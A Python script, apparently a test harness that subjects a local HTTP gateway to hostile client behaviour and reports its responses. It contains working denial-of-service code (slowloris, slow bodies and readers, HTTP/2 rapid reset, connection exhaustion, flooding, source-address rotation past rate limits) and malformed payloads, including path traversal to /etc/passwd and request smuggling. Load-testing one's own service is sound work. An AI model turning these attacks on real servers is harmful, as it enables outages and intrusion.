"""Does one thing that a hostile or broken client does, until its time is over: attacks.py NAME PORT SECONDS. Prints what it received."""

import asyncio
import collections
import itertools
import logging
import re
import socket
import struct
import sys
import time

HOST = b"Host: localhost\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
# :method GET, :scheme http, :authority a, and :path /api/movie/1 without an index (RFC 7541, 6)
GOAWAY = b"\x07\0\0\0\0\0"  # type, flags and stream
HEADERS = b"\x82\x86\x01\x01a\x04\x0c/api/movie/1"
MALFORMED = [
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + 2 * HOST + b"\r\n",
    b"GET / HTTP/9.9\r\n" + HOST + b"\r\n",
    b"GET /api//movie HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n",
    b"GET /%2e%2e/etc/passwd HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n",
    b"POST /api/session HTTP/1.1\r\n" + HOST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + HOST + b"X: " + 20_000 * b"x" + b"\r\n\r\n",
    b"GET /" + 10_000 * b"x" + b" HTTP/1.1\r\n" + HOST + b"\r\n",
    bytes(range(256)) + b"\r\n\r\n",
]
ATTACKERS = [f"127.2.0.{number}" for number in range(1, 9)]


class Attack:
    def __init__(self, port, seconds):
        self.port = port
        self.until = time.monotonic() + seconds
        self.received = collections.Counter()

    def is_over(self):
        return time.monotonic() > self.until

    async def connect(self, source, **options):
        return await asyncio.open_connection("127.0.0.1", self.port, local_addr=(source, 0), **options)

    async def each(self, count, client):
        """Runs so many clients until the time is over; each begins again when it has ended."""
        async def repeat(number):
            while not self.is_over():
                try:
                    await client(ATTACKERS[number % len(ATTACKERS)])
                except ConnectionError:
                    self.received["connection reset"] += 1
                except asyncio.IncompleteReadError:
                    self.received["connection closed"] += 1
        clients = [asyncio.create_task(repeat(number)) for number in range(count)]
        await asyncio.sleep(self.until - time.monotonic())
        for one in clients:
            one.cancel()
        await asyncio.gather(*clients, return_exceptions=True)

    async def trickle(self, source, beginning, piece):
        """Sends a beginning and then pieces, one a second, until the gateway responds or closes the connection."""
        reader, writer = await self.connect(source)
        try:
            writer.write(beginning)
            response = asyncio.create_task(reader.read(65536))
            while not response.done():
                await asyncio.wait([response], timeout=1)
                writer.write(piece)
            self.count(response.result())
        finally:
            writer.close()

    def count(self, response):
        status = re.match(rb"HTTP/1.1 (\d+)", response)
        self.received[status[1].decode() if status else "connection closed"] += 1

    async def slowloris(self):
        await self.each(800, lambda source: self.trickle(source, b"GET /api/movie/1 HTTP/1.1\r\n" + HOST, b"X: x\r\n"))

    async def slow_bodies(self):
        beginning = b"POST /api/session HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\nContent-Length: 50000\r\n\r\n"
        await self.each(160, lambda source: self.trickle(source, beginning, b"x"))

    async def slow_readers(self):
        async def client(source):
            with socket.socket() as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.setblocking(False)
                connection.bind((source, 0))
                loop = asyncio.get_running_loop()
                await loop.sock_connect(connection, ("127.0.0.1", self.port))
                await loop.sock_sendall(connection, b"GET /api/session?limit=100000 HTTP/1.1\r\n" + HOST + b"\r\n")
                self.count(await loop.sock_recv(connection, 16))
                await asyncio.sleep(3600)
        await self.each(64, client)

    async def rapid_reset(self):
        """Requests a film on each stream and resets the stream at once (CVE-2023-44487)."""
        async def client(_):
            reader, writer = await self.connect(ATTACKERS[0])
            writer.write(PREFACE)
            closed = asyncio.create_task(reader.read())
            try:
                for stream in itertools.count(1, 2):
                    if closed.done() or writer.transport.is_closing() or self.is_over():
                        break
                    number = struct.pack(">I", stream)
                    writer.write(len(HEADERS).to_bytes(3) + b"\1\5" + number + HEADERS + b"\0\0\4\3\0" + number + b"\0\0\0\x08")
                    self.received["streams"] += 1
                    if stream % 50 == 49:  # 25 streams
                        await writer.drain()
                        await asyncio.sleep(0.1)  # 250 streams per second and connection, or the attacker takes the processor
                self.received["GOAWAY" if GOAWAY in await closed else "connection closed"] += 1
            finally:
                writer.close()
                closed.cancel()
        await self.each(4, client)

    async def malformed(self):
        requests = itertools.cycle(MALFORMED)

        async def client(source):
            reader, writer = await self.connect(source)
            try:
                writer.write(next(requests))
                self.count(await reader.read(65536))
            finally:
                writer.close()
            await asyncio.sleep(0.02)
        await self.each(8, client)

    async def connections(self):
        """Holds as many connections as it can get from one address."""
        attempts = await asyncio.gather(*(self.connect(ATTACKERS[0]) for _ in range(1500)), return_exceptions=True)
        held = [attempt for attempt in attempts if not isinstance(attempt, OSError)]
        await asyncio.sleep(1)
        self.received["connections accepted"] = sum(not reader.at_eof() and reader.exception() is None for reader, _ in held)
        self.received["connections reset"] = len(attempts) - self.received["connections accepted"]
        await asyncio.sleep(max(0, self.until - time.monotonic()))

    async def flood(self):
        """One client sends as many requests as it gets responses to, on four connections."""
        async def client(_):
            reader, writer = await self.connect(ATTACKERS[0])
            while not self.is_over():
                writer.write(b"GET /api/movie/1 HTTP/1.1\r\n" + HOST + b"\r\n")
                head = await reader.readuntil(b"\r\n\r\n")
                self.count(head)
                await reader.readexactly(int(re.search(rb"content-length: (\d+)", head.lower())[1]))
            writer.close()
        await self.each(4, client)

    async def addresses(self):
        """Changes an account from 20,000 addresses, once each, which is the request whose bucket takes longest to be full again."""
        request = b"PATCH /api/customer/1 HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
        sources = iter([f"127.{net}.{subnet}.{host}" for net in range(3, 83) for subnet in range(25) for host in range(1, 11)])

        async def client():
            for source in sources:
                reader, writer = await self.connect(source)
                writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                writer.write(request)
                self.count(await reader.readuntil(b"\r\n\r\n"))
                writer.transport.abort()  # leaves no connection in TIME_WAIT
        await asyncio.gather(*(client() for _ in range(32)))


def main(name, port, seconds):
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # it reports writes to connections that the gateway has closed
    attack = Attack(int(port), float(seconds))
    asyncio.run(getattr(attack, name)())
    print(", ".join(f"{count:,} × {what}" for what, count in sorted(attack.received.items())))


main(*sys.argv[1:])
